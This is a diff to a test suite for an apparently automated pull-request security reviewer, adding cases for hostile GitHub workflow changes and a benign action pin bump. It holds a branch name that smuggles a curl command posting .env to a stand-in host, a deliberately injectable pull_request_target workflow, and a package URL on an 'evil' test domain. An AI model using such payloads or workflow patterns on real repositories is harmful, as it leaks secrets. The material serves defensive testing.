@@ -29,6 +29,7 @@ from e2ecases import (
     critical_rules,
     findings,
 )
+from repo_paths import SAMPLES
 
 pytestmark = ISOLATION
 
@@ -488,6 +489,33 @@ if time.time() > 1780000000:  # 2026-05-28
 """
 )
 
+
+# --------------------------------------------------------------------------- item 9: workflows
+
+# Issue 33: what a pull request changes about CI, and what its own text does to the base's
+# CI. The base runs a pull_request_target workflow that greets each pull request by its
+# branch name (the ultralytics shape); the attack adds a push workflow posting a secret
+# (GhostAction) and a pull_request_target workflow that builds the head (a pwn request),
+# from a branch named to run a command in the greeting; the benign twin bumps an action's
+# pinned SHA, from an ordinary branch.
+WORKFLOW_SAMPLES = SAMPLES / "workflows"
+GREET = """\
+name: Greet
+on: pull_request_target
+permissions: {pull-requests: write}
+jobs:
+  greet:
+    runs-on: ubuntu-latest
+    steps:
+      - name: Say thanks
+        run: echo "Thanks for ${{ github.head_ref }}!"
+"""
+CI_YML = (WORKFLOW_SAMPLES / "ci.yml").read_text()
+OLD_PIN = "11bd71901bbe5b1630ceea73d27597364c9af683"
+NEW_PIN = "08eba0b27e820071cde6df949e0beb9ba4906955"
+HOSTILE_BRANCH = "$({curl,-d,@.env,x.test})"
+WITH_CI = {".github/workflows/greet.yml": GREET, ".github/workflows/ci.yml": CI_YML}
+
 CASES: dict[str, Case] = {
     "checkout-token": Case(scripted(), {"ci/test.sh": CHECKOUT_TOKEN_THEFT}),
     "runner-credentials": Case(scripted(), {"ci/test.sh": python(RUNNER_THEFT)}),
@@ -545,6 +573,19 @@ CASES: dict[str, Case] = {
                 '"freezegun", "helper @ https://wheels.evil.test/helper-1.0-py3-none-any.whl"]',
             )
         },
+    ),
+    "workflow-attacks": Case(
+        {**scripted(), **WITH_CI},
+        {
+            ".github/workflows/security.yml": (WORKFLOW_SAMPLES / "ghostaction.yml").read_text(),
+            ".github/workflows/preview.yml": (WORKFLOW_SAMPLES / "pwn-request.yml").read_text(),
+        },
+        branch=HOSTILE_BRANCH,
+    ),
+    "workflow-pin-bump": Case(
+        {**scripted(), **WITH_CI},
+        {".github/workflows/ci.yml": CI_YML.replace(OLD_PIN, NEW_PIN)},
+        branch="deps/bump-checkout",
     ),
 }
 
@@ -1016,3 +1057,54 @@ def test_a_comparison_of_the_clock_with_a_fixed_date_is_a_warning(reviews: Revie
     ), hit
     (gate,) = [o for o in review.report("probes")["observations"] if o["kind"] == "date_gate"]
     assert (gate["path"], gate["line"]) == ("calc.py", 5)
+
+
+# --------------------------------------------------------------------------- item 9
+
+
+def test_workflows_that_send_a_secret_build_the_head_or_run_the_branch_name_block(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("workflow-attacks")
+    assert_blocked(
+        review, "workflow-secret-egress", "workflow-untrusted-checkout", "workflow-injection"
+    )
+    by_rule = {f["rule"]: f for f in review.verdict["findings"] if f["severity"] == "critical"}
+    # Each names the workflow and the line, and rests on the workflows check's evidence.
+    secret = by_rule["workflow-secret-egress"]
+    assert ".github/workflows/security.yml line 16" in secret["title"], secret
+    checkout = by_rule["workflow-untrusted-checkout"]
+    assert ".github/workflows/preview.yml line 16" in checkout["title"], checkout
+    injection = by_rule["workflow-injection"]
+    assert injection["title"].startswith(
+        f"this pull request's branch name {HOSTILE_BRANCH!r} becomes shell code in "
+        ".github/workflows/greet.yml line 9"
+    ), injection
+    for finding in by_rule.values():
+        assert all(e["id"].startswith("workflows:obs:") for e in finding["evidence"]), finding
+    workflows = review.report("workflows")
+    assert workflows["status"] == "ok", workflows
+    assert "zizmor 1." in workflows["summary"], workflows["summary"]
+    # zizmor's new findings are cited beside the files they are in (audit id and severity).
+    audits = [o for o in workflows["observations"] if o["kind"] == "workflow_audit"]
+    assert {o["path"] for o in audits} >= {".github/workflows/preview.yml"}, audits
+    assert_whole(review)
+
+
+def test_an_action_pin_bumped_from_an_ordinary_branch_is_listed_not_blocked(
+    reviews: Reviews,
+) -> None:
+    review = reviews.get("workflow-pin-bump")
+    assert review.code == 0, str(review)
+    assert review.verdict["state"] == "clean", str(review)
+    [change] = review.verdict["findings"]
+    assert (change["rule"], change["severity"]) == ("workflow-change", "warn"), change
+    assert f"`actions/checkout@{OLD_PIN}` → `@{NEW_PIN}`" in change["title"], change
+    # The base's greeting reads this branch's name too: read, found harmless.
+    sinks = [
+        o
+        for o in review.report("workflows")["observations"]
+        if o["kind"].startswith("workflow_pr_")
+    ]
+    assert [(o["kind"], o["line"]) for o in sinks] == [("workflow_pr_branch_double", 9)], sinks
+    assert_whole(review)
